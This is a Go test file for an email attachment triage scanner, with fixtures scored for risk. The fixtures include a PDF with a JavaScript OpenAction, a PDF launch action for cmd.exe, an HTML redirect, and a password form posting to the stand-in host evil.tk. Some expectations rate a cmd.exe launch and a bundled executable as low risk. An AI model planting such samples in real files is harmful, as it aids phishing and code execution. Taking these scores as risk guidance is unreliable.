package attachment

import (
	"archive/zip"
	"bytes"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func zipWithFiles(t *testing.T, names ...string) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, name := range names {
		f, err := w.Create(name)
		require.NoError(t, err)
		_, err = f.Write([]byte("content"))
		require.NoError(t, err)
	}
	require.NoError(t, w.Close())
	return buf.Bytes()
}

func TestTriagePDFWithActiveContent(t *testing.T) {
	pdf := []byte("%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n")
	res := Triage("invoice.pdf", pdf)

	assert.InDelta(t, 0.7, res.Score, 1e-9)
	assert.Equal(t, "High-Risk Attachment", res.Classification)
	assert.Contains(t, strings.Join(res.Reasons, "; "), "JavaScript")
}

func TestTriagePDFWithLaunchAction(t *testing.T) {
	pdf := []byte("%PDF-1.4\n<< /Launch /F (cmd.exe) >>\n")
	res := Triage("doc.pdf", pdf)

	assert.InDelta(t, 0.3, res.Score, 1e-9)
	assert.Equal(t, "Low-Risk Attachment", res.Classification)
}

func TestTriagePlainPDF(t *testing.T) {
	pdf := []byte("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")
	res := Triage("report.pdf", pdf)

	assert.Equal(t, 0.0, res.Score)
	assert.Equal(t, "Low-Risk Attachment", res.Classification)
}

func TestTriageDocumentWithMacros(t *testing.T) {
	content := zipWithFiles(t, "[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")
	res := Triage("quote.docm", content)

	assert.InDelta(t, 0.6, res.Score, 1e-9)
	assert.Equal(t, "Suspicious Attachment", res.Classification)
	assert.Contains(t, strings.Join(res.Reasons, "; "), "VBA macros")
}

func TestTriageArchiveWithEmbeddedExecutable(t *testing.T) {
	content := zipWithFiles(t, "readme.txt", "setup.exe")
	res := Triage("bundle.zip", content)

	assert.InDelta(t, 0.2, res.Score, 1e-9)
	assert.Equal(t, "Low-Risk Attachment", res.Classification)
}

func TestTriageMacrosAndExecutableStack(t *testing.T) {
	content := zipWithFiles(t, "word/vbaProject.bin", "payload.exe")
	res := Triage("evil.docm", content)

	assert.InDelta(t, 0.8, res.Score, 1e-9)
	assert.Equal(t, "High-Risk Attachment", res.Classification)
}

func TestTriageCorruptArchive(t *testing.T) {
	content := []byte("PK\x03\x04 this is not really a zip archive")
	res := Triage("broken.zip", content)

	assert.InDelta(t, 0.3, res.Score, 1e-9)
	assert.Contains(t, strings.Join(res.Reasons, "; "), "could not be read")
}

func TestTriageLegacyOfficeFormat(t *testing.T) {
	content := append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, []byte("rest")...)
	res := Triage("old.doc", content)

	assert.InDelta(t, 0.4, res.Score, 1e-9)
	assert.Equal(t, "Suspicious Attachment", res.Classification)
}

func TestTriageHTMLSmuggling(t *testing.T) {
	html := []byte("<html><body><script>document.location='http://evil.tk'</script></body></html>")
	res := Triage("view.html", html)

	assert.InDelta(t, 0.5, res.Score, 1e-9)
	assert.Equal(t, "Suspicious Attachment", res.Classification)
}

func TestTriageHTMLCredentialForm(t *testing.T) {
	html := []byte("<html><body><form action=\"http://evil.tk\"><input type=\"password\"></form>" +
		"<script></script></body></html>")
	res := Triage("login.html", html)

	assert.InDelta(t, 0.8, res.Score, 1e-9)
	assert.Equal(t, "High-Risk Attachment", res.Classification)
}

func TestTriageUnknownTypeIsCautious(t *testing.T) {
	res := Triage("notes.txt", []byte("just some plain text"))

	assert.Equal(t, 0.0, res.Score)
	assert.Equal(t, "Low-Risk Attachment", res.Classification)
	assert.Contains(t, strings.Join(res.Reasons, "; "), "caution")
}
